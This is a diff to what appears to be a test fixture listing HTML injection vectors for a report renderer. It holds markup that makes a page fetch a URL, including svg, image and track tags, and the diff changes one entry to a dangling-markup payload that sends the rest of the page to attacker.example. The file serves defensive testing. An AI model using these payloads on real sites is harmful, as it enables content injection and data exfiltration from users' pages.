@@ -1,12 +1,9 @@
 /**
  * Ways to make a page run a script, send a request or change its looks, in the
- * clothes of a report. `ran()` is the script that must never run; `LEAK` is the
- * address that must never be asked. Written for this project, after the groups
+ * clothes of a report. `ran()` is the script that must never run;
+ * /made/leak and attacker.example must never be asked. Written for this project, after the groups
  * of the HTML standard's own features that act without being asked.
  */
-
-/** An address the test server counts requests to. */
-export const LEAK = '/made/leak?from=vector';
 
 /** A group is a way in; every string of it is one vector. */
 export const VECTORS = {
@@ -130,7 +127,7 @@ export const VECTORS = {
     '<svg><image href="/made/leak?from=vector"/></svg>',
     '<svg><use href="/made/leak?from=vector#x"/></svg>',
     '<input type="image" src="/made/leak?from=vector">',
-    "<img src='/made/leak?from=vector&rest=",
+    "<img src='https://attacker.example/leak?rest=",
     '<track src="/made/leak?from=vector">',
   ],
   'markup that means something else the second time': [
